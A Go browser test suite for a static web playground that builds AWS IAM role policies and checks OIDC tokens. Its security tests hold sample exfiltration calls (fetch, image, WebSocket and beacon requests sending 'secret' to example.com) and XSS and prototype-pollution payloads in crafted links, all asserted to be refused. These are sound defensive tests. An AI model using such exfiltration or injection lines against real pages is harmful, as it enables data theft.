package main

import (
	"encoding/base64"
	"os"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The first answer is there within a second, counted from the address to the
// policy. The best of some tries counts; and where others use the machine at
// the same time, it has as many seconds as there are tasks for each processor.
func TestFirstAnswerWithinASecond(t *testing.T) {
	b := browse(t, 1280, "light")
	limit := time.Duration(float64(time.Second) * max(1, load(t)/float64(runtime.NumCPU())))
	best := time.Hour
	for range 10 {
		b.open("playground.html")
		took := time.Duration(eval[int64](b, `+document.getElementById("role-answer").dataset.shown`)) * time.Millisecond
		if best = min(best, took); best < limit {
			break
		}
	}
	t.Log("first answer after", best, "of", limit)
	assert.Less(t, best, limit)
	b.sound()
}

// load is how many tasks have used or waited for the machine's processors in
// the last minute, where Linux says it.
func load(t *testing.T) float64 {
	t.Helper()
	text, err := os.ReadFile("/proc/loadavg")
	if err != nil {
		return 0
	}
	first, _, _ := strings.Cut(string(text), " ")
	n, err := strconv.ParseFloat(first, 64)
	require.NoError(t, err)
	return n
}

// text is what an element shows.
func (b *browser) text(selector string) string {
	b.t.Helper()
	return eval[string](b, `document.querySelector(`+"`"+selector+"`"+`).innerText`)
}

// focus puts the focus on a field, in whatever group it is.
func (b *browser) focus(selector string) {
	b.t.Helper()
	b.do(chromedp.Evaluate(`(() => { const f = document.querySelector("`+selector+`"); for (let e = f; e; e = e.parentElement) if (e.localName === "details") e.open = true; f.focus(); f.select?.(); })()`, nil))
}

// fill replaces what a field holds, by the keyboard.
func (b *browser) fill(selector, text string) {
	b.t.Helper()
	b.focus(selector)
	b.do(chromedp.KeyEvent(kb.Delete), chromedp.KeyEvent(text))
}

// shown is the JSON of the first policy on the page.
const shown = `document.querySelector("#role-answer pre").textContent`

func TestPlaygroundMakesARole(t *testing.T) {
	b := browse(t, 1280, "light")
	b.open("playground.html")
	assert.Contains(t, b.text("#role-answer"), "admitted: environment release")
	b.fill(`#option-S3\\.Prefix`, "other/")
	b.wait(shown + `.includes("arn:aws:s3:::acme-dist/other/*")`)
	b.focus(`#option-S3\\.WriteOnce`)
	b.do(chromedp.KeyEvent(" "))
	b.wait(shown + `.includes("s3:if-none-match")`)
	assert.Contains(t, b.text("#role-answer"), "--s3-write-once")

	// What is wrong is said at the field, all of it at once.
	b.fill(`#option-AccountId`, "12")
	b.fill(`#option-Region`, "nowhere/")
	b.wait(`document.querySelectorAll("#role-answer .fault li").length >= 2`)
	assert.Equal(t, int64(2), eval[int64](b, `document.querySelectorAll("[aria-invalid=true]").length`))
	assert.Contains(t, b.text("#state"), "things are wrong")

	// Another set has other fields; values of fields that both have stay.
	b.fill(`#option-AccountId`, "123456789012")
	b.fill(`#option-Region`, "eu-west-1")
	b.wait(`!document.querySelector("[aria-invalid]")`)
	b.do(chromedp.SetValue("#set", "builder"), chromedp.Evaluate(`document.getElementById("set").dispatchEvent(new Event("input"))`, nil))
	b.wait(`document.querySelector("#role-answer").textContent.includes("--set builder")`)
	assert.Equal(t, "acme-dist", eval[string](b, `document.getElementById("option-S3.BucketName").value`))
	b.sound()
}

func TestPlaygroundChecksATokenAndCompares(t *testing.T) {
	b := browse(t, 1280, "light")
	b.open("playground.html")
	b.do(chromedp.Click("#tab-token"))
	b.wait(`document.querySelector("#token-answer .verdict")?.textContent === "Refused"`)
	assert.Contains(t, b.text("#token-answer"), "The policy trusts the environment release")
	b.fill("#token", `{"aud": "sts.amazonaws.com", "sub": "repo:acme@1234/app@5678:environment:release", "repository_id": "5678", "repository_owner_id": "1234"}`)
	b.wait(`document.querySelector("#token-answer .verdict")?.textContent === "Admitted"`)
	b.do(chromedp.Click("#tab-diff"))
	b.wait(`document.querySelector("#diff-answer .verdict")?.textContent === "Something new may be granted"`)
	b.do(chromedp.Evaluate(`(() => { const f = document.getElementById("after"); f.value = document.getElementById("before").value; f.dispatchEvent(new Event("input")); })()`, nil))
	b.wait(`document.querySelector("#diff-answer .verdict")?.textContent === "Nothing new is granted"`)
	b.sound()
}

// Nothing leaves the page: after it is loaded, no request goes anywhere,
// whatever is typed, and the browser itself refuses what a script would send.
func TestNothingLeavesThePage(t *testing.T) {
	b := browse(t, 1280, "light")
	b.open("playground.html")
	for _, url := range b.asked() {
		assert.True(t, strings.HasPrefix(url, b.url+"/") || url == "about:blank", url)
	}
	b.fill(`#option-S3\\.BucketName`, "secret-bucket")
	b.do(chromedp.Click("#tab-token"), chromedp.Click("#tab-diff"))
	b.fill("#before", "{}")
	b.do(chromedp.Click("#link"))
	b.wait(`document.getElementById("shared").textContent !== ""`)
	for _, url := range b.asked() {
		assert.Equal(t, b.url+"/assets/icon.svg", url, "the browser asks for the icon when it likes, and nothing else is asked for")
	}
	b.sound()

	for _, attempt := range []string{
		`fetch("https://example.com/?secret").then(() => "sent", () => "refused")`,
		`new Promise((done) => { const i = new Image(); i.onload = () => done("sent"); i.onerror = () => done("refused"); i.src = "https://example.com/?secret"; })`,
		`new Promise((done) => { try { const s = new WebSocket("wss://example.com/"); s.onopen = () => done("sent"); s.onerror = () => done("refused"); } catch { done("refused"); } })`,
		`(() => { document.addEventListener("securitypolicyviolation", (e) => { window.violated = e.effectiveDirective; }); navigator.sendBeacon("https://example.com/", "secret"); return new Promise((done) => setTimeout(() => done(window.violated === "connect-src" ? "refused" : "sent"), 300)); })()`,
		`(() => { try { eval("1"); return "sent"; } catch { return "refused"; } })()`,
		`(() => { try { document.body.innerHTML = "<p>x"; return "sent"; } catch { return "refused"; } })()`,
	} {
		assert.Equal(t, "refused", eval[string](b, attempt), attempt)
	}
}

// A link holds what was typed and gives it back.
func TestLinkRestoresWhatWasTyped(t *testing.T) {
	b := browse(t, 1280, "light")
	b.open("playground.html")
	b.fill(`#option-Subjects\\.Tags`, "v*")
	b.fill(`#option-S3\\.Prefix`, "ünïcode/")
	b.wait(shown + `.includes("ünïcode")`)
	b.do(chromedp.Click("#link"))
	b.wait(`location.hash.startsWith("#1.")`)
	want, link := eval[string](b, shown), eval[string](b, `location.hash`)
	b.open("playground.html" + link)
	assert.Equal(t, want, eval[string](b, shown))
	assert.Equal(t, "v*", eval[string](b, `document.getElementById("option-Subjects.Tags").value`))

	// Each tab has a link of its own, and a token in it has no signature.
	b.do(chromedp.Click("#tab-token"))
	token := "eyJhbGciOiJSUzI1NiJ9." + base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"repo:acme/app:pull_request"}`)) + ".c2VjcmV0c2lnbmF0dXJl"
	b.fill("#token", token)
	b.wait(`document.querySelector("#token-answer pre")?.textContent.includes("repo:acme/app:pull_request")`)
	b.do(chromedp.Evaluate(`document.getElementById("shared").textContent = ""; history.replaceState(null, "", location.pathname)`, nil), chromedp.Click("#link"))
	b.wait(`location.hash.startsWith("#1.")`)
	b.open("playground.html" + eval[string](b, `location.hash`))
	assert.Equal(t, "Refused", b.text("#token-answer .verdict"))
	assert.JSONEq(t, `{"sub":"repo:acme/app:pull_request"}`, eval[string](b, `document.getElementById("token").value`))
	b.sound()
}

// packed writes a fragment as the page does, of anything.
func (b *browser) packed(state string) string {
	b.t.Helper()
	return eval[string](b, `(async () => {
		const bytes = new Uint8Array(await new Response(new Blob([`+state+`]).stream().pipeThrough(new CompressionStream("deflate-raw"))).arrayBuffer());
		return "#1." + btoa(String.fromCharCode(...bytes)).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
	})()`)
}

// A fragment that a stranger has made does no harm: what can't be read is
// refused with a sentence, and what can is text.
func TestHostileLinks(t *testing.T) {
	b := browse(t, 1280, "light")
	b.open("playground.html")
	script := `<img src=x onerror="window.harmed=1"><script>window.harmed=1</script>`
	hostile := b.packed("JSON.stringify({tab: 'role', set: " + "`" + script + "`" + ", values: {'S3.BucketName': " + "`" + script + "`" + "}})")
	for link, want := range map[string]string{
		"#1." + strings.Repeat("A", 8001):                   "it has more than 8000 characters",
		"#1.AAAA":                                           "The link can't be read",
		"#2.abc":                                            "it is not one that this page makes",
		"#<script>alert(1)</script>":                        "it is not one that this page makes",
		b.packed(`"x".repeat(5_000_000)`):                   "it unpacks to more than 200000 characters",
		b.packed(`"[]"`):                                    "it holds no fields",
		b.packed(`'{"values":{"__proto__":"x"}}'`):          "an option of it is no text",
		b.packed(`'{"values":{"a b":"x"}}'`):                "an option of it is no text",
		b.packed(`'{"tab":"constructor"}'`):                 "it holds a field that this page does not have",
		b.packed(`'{"trust":{"toString":1}}'`):              "it holds a field that this page does not have",
		b.packed(`'{"values":{"No.Such":"x"}}'`):            "The link has options that the set publisher does not have: No.Such.",
		hostile:                                             "",
		b.packed(`JSON.stringify({tab:"diff",before:"x"})`): "",
	} {
		// The page follows a link of its own without being loaded anew, and
		// reads any other only when it is.
		if strings.HasPrefix(link, "#1.") {
			b.do(chromedp.Evaluate(`document.getElementById("shared").textContent = "waiting"; location.hash = "`+link+`"`, nil))
			b.wait(`document.getElementById("shared").textContent !== "waiting"`)
		} else {
			b.open("playground.html" + link)
		}
		b.wait(`[...document.querySelectorAll(".answer")].some((a) => a.children.length > 0)`)
		if want != "" {
			b.wait(`document.getElementById("shared").textContent !== ""`)
		}
		if want != "" {
			assert.Contains(t, b.text("#shared"), want, link)
		}
		assert.Zero(t, eval[int64](b, `(window.harmed ?? 0) + document.querySelectorAll("main img, main script").length`), link)
	}
	b.open("playground.html" + hostile)
	assert.Contains(t, eval[string](b, `document.getElementById("role-answer").textContent + document.getElementById("state").textContent`), "onerror")
	b.sound()
}

// Every field has a name, and the keyboard alone reaches and works all of it,
// with the focus in sight.
func TestKeyboard(t *testing.T) {
	b := browse(t, 1280, "light")
	b.open("playground.html")
	assert.Empty(t, eval[[]string](b, `[...document.querySelectorAll("input, select, textarea")].filter((f) => f.labels.length !== 1 || f.labels[0].textContent.trim() === "").map((f) => f.id)`))
	assert.Empty(t, eval[[]string](b, `[...document.querySelectorAll("[aria-describedby], [aria-controls], [aria-labelledby]")].flatMap((e) => ["aria-describedby", "aria-controls", "aria-labelledby"].map((a) => e.getAttribute(a)).filter((id) => id && !document.getElementById(id)))`))

	seen := map[string]bool{}
	for range 60 {
		b.do(chromedp.KeyEvent(kb.Tab))
		focused := eval[string](b, `(() => {
			const e = document.activeElement, s = getComputedStyle(e);
			if (e === document.body) return "";
			return (s.outlineStyle === "none" || parseFloat(s.outlineWidth) < 2 ? "INVISIBLE " : "") + (e.id || e.textContent.trim());
		})()`)
		assert.NotContains(t, focused, "INVISIBLE")
		seen[focused] = true
	}
	for _, want := range []string{"Skip to the content", "Playground", "query", "tab-role", "set", "option-AccountId", "option-S3.BucketName", "option-Subjects.Repositories"} {
		assert.True(t, seen[want], "%s is out of the keyboard's reach: %v", want, seen)
	}

	// Arrows move between the tabs, and only the chosen one is a stop.
	b.do(chromedp.Focus("#tab-role"), chromedp.KeyEvent(kb.ArrowRight))
	assert.Equal(t, "tab-token", eval[string](b, `document.activeElement.id`))
	assert.Equal(t, "true", eval[string](b, `document.activeElement.getAttribute("aria-selected")`))
	b.do(chromedp.KeyEvent(kb.ArrowLeft), chromedp.KeyEvent(kb.ArrowLeft))
	assert.Equal(t, "tab-diff", eval[string](b, `document.activeElement.id`))
	assert.Equal(t, int64(1), eval[int64](b, `[...document.querySelectorAll("[role=tab]")].filter((e) => e.tabIndex === 0).length`))
	b.do(chromedp.Focus("#link"), chromedp.KeyEvent(kb.Enter))
	b.wait(`document.getElementById("shared").textContent !== ""`)
	b.sound()
}
